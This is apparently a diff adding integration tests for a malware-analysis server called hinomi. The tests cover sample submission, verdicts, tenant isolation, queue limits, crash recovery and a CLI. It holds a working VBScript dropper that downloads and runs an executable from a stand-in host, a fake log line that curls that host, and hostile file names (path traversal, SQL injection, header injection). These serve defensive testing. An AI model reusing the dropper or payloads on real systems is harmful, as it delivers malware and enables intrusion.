@@ -1,0 +1,535 @@
+#!/usr/bin/env python3
+"""server_samples.py HINOMI CASE - samples that are handed to a real `hinomi serve`.
+
+Each case says what it proves in its first line. The samples are inert: scripts whose hosts do not
+exist, and text."""
+
+import hashlib
+import io
+import json
+import os
+import subprocess
+import sys
+import threading
+import time
+import zipfile
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+sys.path.insert(0, os.path.join(HERE, "../api"))
+from server import Site, check, same, wait_for  # noqa: E402
+
+REPOSITORY = os.path.join(HERE, "../../..")
+HOST = "files.example"
+DROPPER = f"""u = "http://{HOST[:9]}" & "{HOST[9:]}/a.exe"
+Set h = CreateObject("MSXML2.XMLHTTP")
+h.Open "GET", u, False
+h.Send
+Set s = CreateObject("ADODB.Stream")
+s.Type = 1
+s.Open
+s.Write h.responseBody
+s.SaveToFile "C:\\Users\\Public\\a.exe", 2
+CreateObject("WScript.Shell").Run "C:\\Users\\Public\\a.exe"
+"""
+
+
+class Scene:
+    def __init__(self, program, **samples):
+        self.site = Site(os.path.abspath(program))
+        self.site.config["rules"]["paths"] = [
+            self.site.path("rules"), os.path.join(REPOSITORY, "rules/analysis")]
+        self.site.config["samples"] = {"reserved": True, **samples}
+
+    def start(self):
+        self.site.start()
+        self.admin = self.site.admin()
+        return self
+
+    def token(self, role, bits, tenant=""):
+        return self.site.token_client(self.site.planted_token(role, role, bits, tenant=tenant))
+
+    def submit(self, data, name="sample.vbs", passwords=None, client=None):
+        if isinstance(data, str):
+            data = data.encode()
+        url = "/v1/samples?name=" + quoted(name)
+        if passwords:
+            url += "&passwords=" + quoted("\n".join(passwords))
+        return (client or self.admin).ask("POST", url, data, headers={
+            "Content-Type": "application/octet-stream"})
+
+    def taken(self, *args, **more):
+        answer = self.submit(*args, **more)
+        same(answer.status, 202, f"submitting: {answer}")
+        return answer.json
+
+    def done(self, sample, client=None, seconds=90):
+        def look():
+            answer = (client or self.admin).ok("GET", "/v1/samples/" + sample["id"]).json
+            return answer if answer["state"] in ("done", "failed") else None
+        return wait_for(look, "the analysis", seconds)
+
+    def files(self):
+        folder = self.site.path("data/samples/files")
+        return sorted(name for name in os.listdir(folder) if len(name) == 64)
+
+    def close(self):
+        self.site.stop()
+
+
+def quoted(text):
+    from urllib.parse import quote
+    return quote(text.encode("utf-8"), safe="")
+
+
+def script(number):
+    return DROPPER + f"' {number}\n"
+
+
+def log_line(site, **fields):
+    with open(site.path("logs/logs.jsonl"), "a", encoding="utf-8") as f:
+        f.write(json.dumps({"Channel": "Microsoft-Windows-Sysmon/Operational",
+                            "UtcTime": "2026-11-23 01:02:03.000", **fields}) + "\n")
+
+
+def case_life(scene):
+    """From a script to verdict, report in both languages, children, zip, and nothing of it in the
+    clear on the disk; handed in again it is the same."""
+    scene.start()
+    sample = scene.taken(script(1), "ordner/böse <b>.vbs")
+    same((sample["new"], sample["name"]), (True, "böse <b>.vbs"), "what was taken")
+    check(sample["state"] in ("queued", "running", "done"), "its state")
+    same(sample["sha256"], hashlib.sha256(script(1).encode()).hexdigest(), "the digest")
+    row = scene.done(sample)
+    same((row["state"], row["verdict"]), ("done", "malicious"), f"the verdict: {row['error']}")
+    urls = [i for i in row["report"]["indicators"] if i["type"] == "url"]
+    same([u["value"] for u in urls], [f"http://{HOST}/a.exe"], "the URL")
+    again = scene.taken(script(1), "other.vbs")
+    same((again["id"], again["new"], again["name"]), (row["id"], False, row["name"]), "again")
+    other = scene.taken(script(1), passwords=["geheim"])
+    check(other["id"] != row["id"], "with another password it is another")
+    scene.done(other)
+    for lang, word in (("en", "Malicious"), ("ja", "悪性")):
+        page = scene.admin.ok("GET", f"/v1/samples/{row['id']}/report?lang={lang}")
+        same(page.headers["Content-Type"], "text/html; charset=utf-8", "a page")
+        check(page.headers["Content-Disposition"].startswith("attachment"), "it is saved")
+        check(word in page.body.decode() and f"hxxp://{HOST[:5]}[.]example" in page.body.decode(), lang)
+        check(b"<b>.vbs" not in page.body, "the name is escaped")
+    zipped = zip_of({"a.vbs": script(2)})
+    held = scene.done(scene.taken(zipped, "mail.zip"))
+    children = scene.admin.ok("GET", f"/v1/samples/{held['id']}/children").json["items"]
+    child = next(c for c in children if c["name"] == "a.vbs")
+    same((child["sha256"], child["kept"]), (hashlib.sha256(script(2).encode()).hexdigest(), True),
+         "the child")
+    for query, data in (("", zipped), ("?child=" + child["sha256"], script(2).encode())):
+        answer = scene.admin.ok("GET", f"/v1/samples/{held['id']}/download{query}")
+        with zipfile.ZipFile(io.BytesIO(answer.body)) as archive:
+            name = archive.namelist()[0]
+            same((name, archive.read(name, pwd=b"infected")),
+                 (hashlib.sha256(data).hexdigest(), data), "what is in the zip")
+        check(data not in answer.body, "the zip is encrypted")
+    same(scene.admin.get(f"/v1/samples/{held['id']}/download?child=" + "0" * 64).status, 404,
+         "a child that is none")
+    on_disk(scene)
+    actions = [r[0] for r in scene.site.rows("SELECT action FROM audit ORDER BY seq")]
+    same((actions.count("sample.submit"), actions.count("sample.download")), (4, 2), "the audit log")
+    removed(scene, row, held)
+
+
+def zip_of(entries):
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        for name, text in entries.items():
+            archive.writestr(name, text)
+    return out.getvalue()
+
+
+def on_disk(scene):
+    folder = scene.site.path("data/samples")
+    same(os.stat(folder + "/key").st_mode & 0o777, 0o600, "the key's mode")
+    same(os.path.getsize(folder + "/key"), 32, "the key")
+    for name in scene.files():
+        same(os.stat(f"{folder}/files/{name}").st_mode & 0o777, 0o600, "a file's mode")
+        with open(f"{folder}/files/{name}", "rb") as f:
+            data = f.read()
+        check(b"CreateObject" not in data and b"indicators" not in data, "a file is encrypted")
+    for table in ("sample", "sample_file", "sample_indicator"):
+        check("geheim" not in str(scene.site.rows(f"SELECT * FROM {table}")), "a password is sealed")
+
+
+def removed(scene, row, held):
+    before = len(scene.files())
+    scene.admin.ok("DELETE", "/v1/samples/" + held["id"])
+    check(len(scene.files()) < before, "files are removed")
+    same(scene.admin.get("/v1/samples/" + held["id"]).status, 404, "removed")
+    same(scene.admin.ask("DELETE", "/v1/samples/" + held["id"]).status, 404, "removed twice")
+    # Its bytes belong to the one with the password as well.
+    scene.admin.ok("DELETE", "/v1/samples/" + row["id"])
+    check(row["sha256"] in scene.files(), "what another one has stays")
+
+
+def case_lists(scene):
+    """Lists by verdict and state, page by page; each sample once, whatever comes in between."""
+    scene.start()
+    ids = [scene.taken(script(i), f"{i}.vbs")["id"] for i in range(5)]
+    ids.append(scene.taken("nothing to see\n", "note.txt")["id"])
+    for i in ids:
+        scene.done({"id": i})
+    listed, cursor = [], ""
+    while cursor is not None:
+        page = scene.admin.ok("GET", "/v1/samples?limit=2" + (cursor and "&cursor=" + cursor)).json
+        listed += [r["id"] for r in page["items"]]
+        cursor = page["next"]
+    same(listed, ids[::-1], "all of them, newest first")
+    for query, count in (("verdict=malicious", 5), ("verdict=clean", 1), ("verdict=unknown", 0),
+                         ("state=done", 6), ("state=queued", 0)):
+        same(len(scene.admin.ok("GET", "/v1/samples?" + query).json["items"]), count, query)
+    same(scene.admin.get("/v1/samples?cursor=x").status, 400, "a cursor of nobody")
+    status = scene.admin.ok("GET", "/v1/status").json["samples"]
+    same((status["queued"], status["running"], status["kept"], status["workers"]), (0, 0, 6, 2),
+         "the status")
+    same(scene.site.metric('hinomi_samples_analysed_total{verdict="malicious"}'), 5, "a metric")
+    same(scene.site.metric("hinomi_samples_kept"), 6, "a metric")
+
+
+def case_roles(scene):
+    """Who may not, may not; one tenant sees nothing of another, not even that it is there."""
+    scene.start()
+    sample = scene.taken(script(1))
+    scene.done(sample)
+    viewer, analyst = scene.token("viewer", 1), scene.token("analyst", 3)
+    editor = scene.token("rule_editor", 7)
+    same(scene.submit(script(2), client=viewer).status, 403, "a viewer hands in")
+    same(scene.submit(script(2), client=scene.site.client()).status, 401, "nobody hands in")
+    url = "/v1/samples/" + sample["id"]
+    same(viewer.get(url).status, 200, "a viewer reads")
+    same(viewer.get(url + "/download").status, 403, "a viewer downloads")
+    same(analyst.get(url + "/download").status, 200, "an analyst downloads")
+    same(editor.ask("DELETE", url).status, 403, "an editor removes")
+    numbers = [i["number"] for i in viewer.ok("GET", url + "/indicators").json["items"]]
+    wish = {"numbers": numbers, "state": "rejected"}
+    same(analyst.ask("POST", url + "/indicators", wish).status, 403, "an analyst decides")
+    same(editor.ask("POST", url + "/indicators", wish).status, 200, "an editor decides")
+    a, b = (scene.token("rule_editor", 7, tenant="tenant-" + t) for t in "ab")
+    mine = scene.taken(script(1), client=a)
+    check(mine["id"] != sample["id"] and mine["new"], "each tenant has its own")
+    for path in ("", "/report", "/tree", "/children", "/download", "/indicators"):
+        same(b.get(f"/v1/samples/{mine['id']}{path}").status, 404, "another tenant's" + path)
+    same([r["id"] for r in a.ok("GET", "/v1/samples").json["items"]], [mine["id"]], "a's list")
+    same(b.ok("GET", "/v1/samples").json["items"], [], "b's list")
+    same(a.ask("POST", f"/v1/samples/{mine['id']}/indicators", wish).status, 403,
+         "one tenant decides for all")
+
+
+def case_wrong(scene):
+    """What is no sample is refused, what is larger than allowed as well; hostile names are text."""
+    scene.site.config["samples"]["file"] = "64KiB"
+    scene.start()
+    same(scene.submit(b"").status, 422, "nothing")
+    same(scene.submit(b"x" * 65537).status, 413, "too large")
+    same(scene.admin.ask("POST", "/v1/samples", {"a": 1}).status, 415, "JSON")
+    same(scene.admin.ask("POST", "/v1/samples?x=1", b"x", headers={
+        "Content-Type": "application/octet-stream"}).status, 400, "a parameter of nobody")
+    for bad in ("/v1/samples/1", "/v1/samples/" + "0" * 31, "/v1/samples/" + "g" * 32):
+        same(scene.admin.get(bad).status, 400, bad)
+    same(scene.admin.get("/v1/samples/" + "0" * 32).status, 404, "a sample of nobody")
+    names = ["../../etc/passwd", "..\\..\\x.exe", "a\nb", "\x1b[31m", "<script>", "'; DROP TABLE",
+             "x" * 255, "日本語" * 80, "..", "/", "\u202egpj.exe", "a\"b\r\nX: y"]
+    for number, name in enumerate(names):
+        row = scene.done(scene.taken(f"text {number}\n", name))
+        same(row["state"], "done", f"{name!r}: {row['error']}")
+        check("/" not in row["name"] and "\\" not in row["name"] and
+              0 < len(row["name"].encode()) <= 255, f"{name!r} became {row['name']!r}")
+        scene.admin.ok("GET", f"/v1/samples/{row['id']}/download")
+    same({len(n) for n in scene.files()}, {64}, "names on the disk")
+    url = f"/v1/samples/{row['id']}/indicators"
+    for wish in ({}, {"numbers": [], "state": "accepted"}, {"numbers": [999], "state": "accepted"},
+                 {"numbers": [1], "state": "x"}, {"numbers": ["1"], "state": "accepted"}):
+        same(scene.admin.ask("POST", url, wish).status, 422, str(wish))
+
+
+def case_at_once(scene):
+    """The same sample from many at once is there once; many different ones are all there."""
+    scene.start()
+    answers, lock = [], threading.Lock()
+    token = scene.site.planted_token("many", "analyst", 3)
+
+    def hand_in(number):
+        client = scene.site.token_client(token)
+        for turn in range(10):
+            answer = scene.submit(script(turn), client=client)
+            with lock:
+                answers.append((turn, answer.status, answer.json.get("id"), answer.json.get("new")))
+        client.close()
+    threads = [threading.Thread(target=hand_in, args=(n,)) for n in range(8)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    same({a[1] for a in answers}, {202}, "answers")
+    for turn in range(10):
+        same(len({a[2] for a in answers if a[0] == turn}), 1, "one id")
+        same(sum(a[3] for a in answers if a[0] == turn), 1, "new once")
+    for turn in range(10):
+        scene.done({"id": next(a[2] for a in answers if a[0] == turn)})
+    same(scene.site.rows("SELECT count(*), sum(attempts) FROM sample"), [(10, 10)], "rows")
+
+
+def case_queue(scene):
+    """A full queue is told and not passed over; limits of kept samples remove the oldest."""
+    scene.site.config["samples"].update({"queue": 3, "workers": 1})
+    scene.start()
+    statuses = [scene.submit(script(i)).status for i in range(40)]
+    check(429 in statuses and 202 in statuses, f"{statuses}")
+    answer = next(a for a in iter(lambda: scene.submit(script(time.time_ns())), None)
+                  if a.status == 429)
+    check(int(answer.headers["Retry-After"]) > 0, "when to try again")
+    scene.site.stop()
+    scene.site.config["samples"].update({"queue": 1000, "count": 2})
+    scene.start()
+    ids = [scene.taken(script(1000 + i))["id"] for i in range(4)]
+    for i in ids:
+        wait_for(lambda i=i: scene.admin.get("/v1/samples/" + i).status == 404 or
+                 scene.admin.ok("GET", "/v1/samples/" + i).json["state"] == "done", "done")
+    wait_for(lambda: scene.site.rows("SELECT count(*) FROM sample") == [(2,)], "the oldest to go", 150)
+    named = {r[0] for r in scene.site.rows("SELECT sha256 FROM sample_file WHERE kept=1")}
+    same(set(scene.files()), named, "files that are left")
+
+
+def case_killed(scene):
+    """kill -9 while samples wait and are looked at: each is analysed after the next start, once."""
+    scene.site.config["samples"]["workers"] = 1
+    ids = set()
+    for turn in range(4):
+        scene.start()
+        for number in range(12):
+            ids.add(scene.taken(script(f"{turn}-{number}"))["id"])
+        scene.site.process.kill()
+        scene.site.process.wait()
+        scene.site.process = None
+    waiting = scene.site.rows("SELECT count(*) FROM sample WHERE state<2")[0][0]
+    check(waiting > 0, "some were waiting")
+    scene.start()
+    for one in ids:
+        same(scene.done({"id": one})["state"], "done", "a sample")
+    same(scene.site.rows("SELECT count(*) FROM sample"), [(len(ids),)], "samples")
+    named = {r[0] for r in scene.site.rows("SELECT sha256 FROM sample_file WHERE kept=1")}
+    same(set(scene.files()), named, "files and rows")
+
+
+def case_crash_points(scene):
+    """Ended at the worst moments (a file without a row, a row just made, files without their rows):
+    what was acknowledged is analysed, and no file is left that nobody names."""
+    for point in ("sample_file", "sample_row", "sample_kept"):
+        os.environ["HINOMI_CRASH_AT"] = point
+        scene.start()
+        try:
+            sample = scene.submit(script(point)).json
+        except Exception:  # the server is gone before it has answered
+            sample = None
+        scene.site.process.wait(60)
+        scene.site.process = None
+        del os.environ["HINOMI_CRASH_AT"]
+        scene.start()
+        if sample:
+            same(scene.done(sample)["verdict"], "malicious", point)
+        same(scene.done(scene.taken(script(point)))["verdict"], "malicious", point + ", again")
+        scene.site.stop()
+        named = {r[0] for r in scene.site.rows("SELECT sha256 FROM sample_file WHERE kept=1")}
+        same(set(scene.files()), named, f"files after {point}")
+
+
+def case_journal(scene):
+    """What a sample tells is found in the journal, offered, accepted, and judges from then on, until
+    it expires."""
+    scene.site.config["outputs"] = []
+    scene.start()
+    log_line(scene.site, EventID=22, Computer="pc-7", User="alice", QueryName=HOST,
+             Image="C:\\x.exe")
+    wait_for(lambda: scene.admin.ok("GET", "/v1/status").json["engine"]["events"] >= 1, "an event")
+    row = scene.done(scene.taken(script(1)))
+    hits = row["report"]["journal"]["hits"]
+    same([(h["host"], h["user"], HOST in h["value"]) for h in hits], [("pc-7", "alice", True)],
+         "who asked for it")
+    check(row["report"]["journal"]["complete"], "all of the journal")
+    page = scene.admin.ok("GET", f"/v1/samples/{row['id']}/report").body.decode()
+    check("pc-7" in page and "Seen in the journal" in page, "it is in the page")
+    alert = wait_for(lambda: [a for a in scene.admin.ok("GET", "/v1/alerts").json["items"]
+                              if a["title"] == "Sample Handed In Is Malicious"], "an alert")
+    same((len(alert), alert[0]["source"], alert[0]["level"]), (1, "samples", "high"), "of the sample")
+    url = f"/v1/samples/{row['id']}/indicators"
+    offered = scene.admin.ok("GET", url).json["items"]
+    check({"url", "sha256"} <= {o["type"] for o in offered}, offered)
+    check(all(o["state"] == "offered" for o in offered), "offered")
+    number = next(o["number"] for o in offered if o["type"] == "url")
+    decided = scene.admin.ok("POST", url, {"numbers": [number], "state": "accepted",
+                                           "expires": "2036-01-01T00:00:00Z"}).json["items"]
+    one = next(d for d in decided if d["number"] == number)
+    same((one["state"], one["expires"][:10]), ("accepted", "2036-01-01"), "accepted")
+    with open(scene.site.path("data/samples/indicators.csv")) as f:
+        text = f.read()
+    check(f"sample:{row['id']}" in text and "token:" in text and "2036-01-01" in text, text)
+    log_line(scene.site, EventID=1, Computer="pc-8", User="bob",
+             CommandLine=f"curl http://{HOST}/a.exe")
+    alert = wait_for(lambda: scene.admin.ok("GET", "/v1/alerts?host=pc-8").json["items"], "an alert")[0]
+    same(alert["kind"], "indicator", "by the accepted indicator")
+    scene.admin.ok("POST", url, {"numbers": [number], "state": "rejected"})
+    with open(scene.site.path("data/samples/indicators.csv")) as f:
+        check(HOST not in f.read(), "rejected: gone from the list")
+    log_line(scene.site, EventID=1, Computer="pc-9", User="bob",
+             CommandLine=f"curl http://{HOST}/a.exe")
+    wait_for(lambda: scene.admin.ok("GET", "/v1/status").json["engine"]["events"] >= 4, "an event")
+    time.sleep(0.5)
+    same(scene.admin.ok("GET", "/v1/alerts?host=pc-9").json["items"], [], "no alert any more")
+
+
+def workers_of(scene):
+    """The warm processes of the server."""
+    pids = []
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        try:
+            with open(f"/proc/{pid}/stat") as f:
+                if int(f.read().rpartition(")")[2].split()[1]) == scene.site.process.pid:
+                    pids.append(int(pid))
+        except (OSError, IndexError):
+            pass
+    return pids
+
+
+def case_worker_gone(scene):
+    """A worker that is gone is told, and the others go on; without any, samples wait for the next
+    start."""
+    scene.start()
+    pids = workers_of(scene)
+    same(len(pids), 2, "workers")
+    os.kill(pids[0], 9)
+    for number in range(6):
+        same(scene.done(scene.taken(script(number)))["verdict"], "malicious", "with one worker")
+    wait_for(lambda: scene.admin.ok("GET", "/v1/status").json["samples"]["workers"] == 1,
+             "it to be told", 20)
+    check('"id":"samples.worker"' in scene.site.log_text(), "it is in the log")
+    os.kill(pids[1], 9)
+    sample = scene.taken(script("waits"))
+    wait_for(lambda: scene.admin.ok("GET", "/v1/status").json["samples"]["workers"] == 0, "none", 20)
+    same(scene.admin.ok("GET", "/v1/samples/" + sample["id"]).json["state"], "queued", "it waits")
+    scene.site.stop()
+    scene.start()
+    same(scene.done(sample)["verdict"], "malicious", "after the next start")
+
+
+def case_full_disk(scene):
+    """Without room nothing is acknowledged; with room again everything goes on."""
+    folder = scene.site.path("small")
+    os.mkdir(folder)
+    if os.geteuid() != 0 or subprocess.run(["mount", "-t", "tmpfs", "-o", "size=400k", "tmpfs", folder],
+                                           stderr=subprocess.DEVNULL, check=False).returncode:
+        print("full_disk: SKIPPED, no tmpfs can be mounted here")
+        return 77
+    try:
+        os.makedirs(scene.site.path("data"), mode=0o700)
+        os.symlink(folder, scene.site.path("data/samples"))
+        scene.start()
+        statuses = []
+        for number in range(20):
+            statuses.append(scene.submit(os.urandom(60000)).status)
+            if statuses[-1] == 503:
+                break
+        same(statuses[-1], 503, f"{statuses}")
+        subprocess.run(["mount", "-o", "remount,size=64m", folder], check=True)
+        row = scene.done(scene.taken(script(1)))
+        same(row["verdict"], "malicious", "with room again")
+        for sample in scene.admin.ok("GET", "/v1/samples").json["items"]:
+            same(scene.done(sample)["state"], "done", "each that was acknowledged")
+        scene.site.stop()
+    finally:
+        scene.site.close()
+        subprocess.run(["umount", folder], check=False)
+    return 0
+
+
+def case_off(scene):
+    """Without workers there are no samples, and the server says so; a limit that is none is told."""
+    scene.site.config["samples"]["workers"] = 0
+    scene.start()
+    same(scene.submit(script(1)).status, 503, "handed in")
+    same(scene.admin.get("/v1/samples").status, 503, "listed")
+    same(scene.admin.ok("GET", "/v1/status").json["samples"]["workers"], 0, "status")
+    scene.site.stop()
+    scene.site.config["samples"].update({"workers": 1, "limits": ["wall_ms=1", "cpu_seconds=1"]})
+    scene.start()
+    row = scene.done(scene.taken(script(1)))
+    check("cpu" in json.dumps(row["report"]["objects"]) or "wall_ms" in json.dumps(row["report"]["gaps"]),
+          row["report"]["gaps"])
+    scene.site.stop()
+    scene.site.config["samples"]["limits"] = ["none=1"]
+    scene.site.spawn()
+    check(scene.site.process.wait(60) != 0, "a limit that is none")
+    scene.site.process = None
+
+
+def run(scene, *args, code=0):
+    done = subprocess.run([scene.site.program, "analyze", *args], capture_output=True, text=True,
+                          timeout=120, check=False, cwd=scene.site.folder, env=dict(
+                              os.environ, HINOMI_TOKEN=scene.token_text, LANG="C.UTF-8",
+                              XDG_CACHE_HOME=scene.site.path("cache")))
+    same(done.returncode, code, f"{args}: {done.stdout}{done.stderr}")
+    return done.stdout
+
+
+def case_cli(scene):
+    """`hinomi analyze --server` shows and writes what an analysis here does, with what is in the
+    journal; --no-wait prints ids; what cannot be asked of a server is refused."""
+    scene.start()
+    scene.token_text = scene.site.planted_token("cli", "analyst", 3)
+    log_line(scene.site, EventID=22, Computer="pc-7", User="alice", QueryName=HOST)
+    wait_for(lambda: scene.admin.ok("GET", "/v1/status").json["engine"]["events"] >= 1, "an event")
+    for name, data in (("a.vbs", script(1).encode()), ("b.zip", zip_of({"c.vbs": script(2)})),
+                       ("note.txt", b"nothing to see\n")):
+        with open(scene.site.path(name), "wb") as f:
+            f.write(data)
+    server = ["--server", f"http://127.0.0.1:{scene.site.port}"]
+    rules = [arg for path in scene.site.config["rules"]["paths"] for arg in ("--rules-dir", path)]
+    for name in ("a.vbs", "b.zip", "note.txt"):
+        for lang in ("en", "ja"):
+            here = run(scene, "--reserved", "--lang", lang, *rules, name)
+            there = run(scene, "--reserved", "--lang", lang, *server, name)
+            heading = {"en": "Seen in the server's journal", "ja": "サーバーのジャーナル内の痕跡"}[lang]
+            check(heading in there, there)
+            blocks = there.split("\n\n")
+            kept = [b for b in blocks if heading not in b]
+            same([b.strip() for b in kept], [b.strip() for b in here.split("\n\n")], name + lang)
+    out = run(scene, *server, "--json", "x.jsonl", "--report", "r.html", "--iocs", "i.csv", "--reserved",
+              "a.vbs")
+    check("malicious" in out and "pc-7" in out and "http://" not in out, out)
+    report = json.loads(open(scene.site.path("x.jsonl"), encoding="utf-8").read())
+    same((report["verdict"], report["journal"]["hits"][0]["host"]), ("malicious", "pc-7"), "JSON")
+    check("pc-7" in open(scene.site.path("r.html"), encoding="utf-8").read(), "HTML")
+    check(HOST in open(scene.site.path("i.csv"), encoding="utf-8").read(), "CSV")
+    lines = run(scene, *server, "--no-wait", "a.vbs", "b.zip").splitlines()
+    same([line.split()[1] for line in lines], ["a.vbs", "b.zip"], "--no-wait")
+    same(len(lines[0].split()[0]), 32, "an id")
+    run(scene, *server, "--fail-on", "malicious", "-q", "a.vbs", code=1)
+    run(scene, *server, "--limit", "wall_ms=1", "a.vbs", code=3)
+    run(scene, "--no-wait", "a.vbs", code=3)
+    run(scene, *server, "-q", "note.txt", "none", code=5)
+
+
+CASES = {name[5:]: function for name, function in list(globals().items()) if name.startswith("case_")}
+
+
+def main():
+    scene = Scene(sys.argv[1])
+    began = time.monotonic()
+    try:
+        result = CASES[sys.argv[2]](scene)
+        scene.close()
+    except Exception:
+        sys.stderr.write(scene.site.log_text()[-4000:])
+        raise
+    finally:
+        scene.site.close()
+    print(f"{sys.argv[2]}: {time.monotonic() - began:.1f} s")
+    return result or 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
